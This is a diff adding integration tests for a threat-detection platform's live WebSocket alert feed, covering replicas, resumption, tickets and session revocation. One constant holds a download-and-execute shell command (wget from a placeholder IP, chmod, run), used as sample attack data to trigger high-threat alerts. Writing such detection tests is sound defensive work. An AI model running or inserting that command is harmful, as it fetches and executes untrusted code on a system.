@@ -1,0 +1,153 @@
+import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
+import { connectFeed, openFeed, ticketFor } from '../../testing/test-feed.js'
+import { ADMIN, startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
+import { until } from '../../testing/until.js'
+
+const HIGH = 'wget http://192.0.2.1/x; chmod 777 x; ./x'
+
+/** Open connections of the server but those kept alive for the next request. */
+async function connectionsOf({ platform }: TestPlatform): Promise<number> {
+  platform.app.server.closeIdleConnections()
+  return new Promise((resolve) => platform.app.server.getConnections((_error, count) => resolve(count)))
+}
+
+describe.each(inject('postgresServers'))('the live feed on $version', (server) => {
+  let api: TestPlatform
+  let replica: TestPlatform
+  let token: string
+  let next = 0
+  beforeAll(async () => {
+    api = await startTestPlatform(server)
+    replica = await startTestPlatform(server, { beside: api })
+    token = await api.login()
+  })
+  afterAll(async () => {
+    await replica.close()
+    await api.close()
+  })
+
+  /** Sends events of so many new sources, each worth an alert; gives the sources. */
+  async function attack(count = 1): Promise<string[]> {
+    const sources = Array.from({ length: count }, () => {
+      next += 1
+      return `203.0.113.${next}`
+    })
+    const events = sources.map((source_ip) => ({
+      source_ip,
+      session: 's',
+      occurred_at: new Date().toISOString(),
+      command: HIGH,
+    }))
+    await api.send(JSON.stringify(events))
+    return sources
+  }
+
+  test('every client of every replica gets an alert, and acknowledging it is measured', async () => {
+    const feeds = [await openFeed(api, token), await openFeed(api, token), await openFeed(replica, token)]
+    const [source] = await attack()
+    for (const feed of feeds) {
+      const [alert] = await feed.until(1)
+      expect(alert).toMatchObject({ source_ip: source, threat_level: 'high', state: 'open' })
+      feed.acknowledge(alert?.id ?? '')
+    }
+    await until(async () =>
+      /eviltwin_alert_delivery_duration_seconds_count\{mode="live"\} 2/.test(
+        await (await api.call('/metrics')).text(),
+      ),
+    )
+    expect(feeds[0]?.messages[0]).toMatchObject({ event_type: 'CONNECTED', payload: { resumed: false } })
+    const line = api.logged.find(
+      (each) => each['message'] === 'WebSocket broadcast' && each['source_ip'] === source,
+    )
+    expect(line).toMatchObject({ level: 'INFO', logger: 'backend.routers.alerts', clients: 2 })
+    for (const feed of feeds) await feed.close()
+  })
+
+  test('a client that was away resumes after its last alert, with no gap and no duplicate, on any replica', async () => {
+    const before = await openFeed(api, token)
+    await attack()
+    const [last] = await before.until(1)
+    await before.close()
+    const missed = await attack(5)
+    const after = await openFeed(replica, token, last?.id)
+    expect((await after.until(5)).map(({ source_ip }) => source_ip).sort()).toEqual([...missed].sort())
+    const [live] = await attack()
+    const alerts = await after.until(6)
+    expect(alerts).toHaveLength(6)
+    expect(alerts[5]?.source_ip).toBe(live)
+    expect(after.messages[0]).toMatchObject({ payload: { resumed: true } })
+    await after.close()
+  })
+
+  test('resuming from an alert that is not stored says so', async () => {
+    const feed = await openFeed(api, token, '00000000-0000-4000-8000-000000000000')
+    await until(() => feed.messages[0])
+    expect(feed.messages[0]).toMatchObject({ event_type: 'CONNECTED', payload: { resumed: false } })
+    await feed.close()
+  })
+
+  test('a change by one analyst reaches the others', async () => {
+    const feed = await openFeed(replica, token)
+    await attack()
+    const [alert] = await feed.until(1)
+    await api.call(`/alerts/${alert?.id}`, {
+      method: 'PATCH',
+      as: token,
+      body: JSON.stringify({ state: 'acknowledged' }),
+    })
+    const update = await until(() => feed.messages.find(({ event_type }) => event_type === 'ALERT_UPDATED'))
+    expect(update).toMatchObject({ payload: { id: alert?.id, state: 'acknowledged' } })
+    await feed.close()
+  })
+
+  test('a ticket works once, and nothing else works', async () => {
+    const ticket = await ticketFor(api.call, token)
+    const feed = await connectFeed(api.url, ticket)
+    for (const refused of [ticket, 'nonsense', token]) {
+      await expect(connectFeed(api.url, refused)).rejects.toThrow('401')
+    }
+    await expect(connectFeed(`${api.url}/no-such-path`, 'x')).rejects.toThrow('404')
+    // A refused upgrade leaves nothing open: only the feed's own connection is left.
+    await until(async () => (await connectionsOf(api)) === 1)
+    await feed.close()
+  })
+
+  test('a ticket is good for half a minute', async () => {
+    let now = Date.now()
+    const later = await startTestPlatform(server, { now: () => now })
+    const ticket = await ticketFor(later.call, await later.login())
+    now += 31_000
+    await expect(connectFeed(later.url, ticket)).rejects.toThrow('401')
+    await later.close()
+  })
+
+  test('logging out ends the feeds of that login on every replica', async () => {
+    const login = await api.login()
+    const feed = await openFeed(replica, login)
+    await api.call('/auth/logout', { method: 'POST', as: login })
+    expect(await feed.closed).toBe(4401)
+  })
+
+  test('a refresh token that is used twice ends the feeds of its login', async () => {
+    const login = await api.call('/auth/login', { method: 'POST', body: JSON.stringify(ADMIN) })
+    const { access_token, refresh_token } = (await login.json()) as Record<string, string>
+    const feed = await openFeed(replica, access_token ?? '')
+    for (let use = 0; use < 2; use += 1) {
+      await api.call('/auth/refresh', { method: 'POST', body: JSON.stringify({ refresh_token }) })
+    }
+    expect(await feed.closed).toBe(4401)
+  })
+
+  test('a server that stops tells its clients to come back', async () => {
+    const stopping = await startTestPlatform(server, { beside: api })
+    const feed = await openFeed(stopping, token)
+    await stopping.close()
+    expect(await feed.closed).toBe(1012)
+  })
+
+  test('what is no acknowledgement ends the connection', async () => {
+    const feed = await openFeed(api, token)
+    feed.acknowledge('not a uuid')
+    expect(await feed.closed).toBe(4400)
+  })
+})
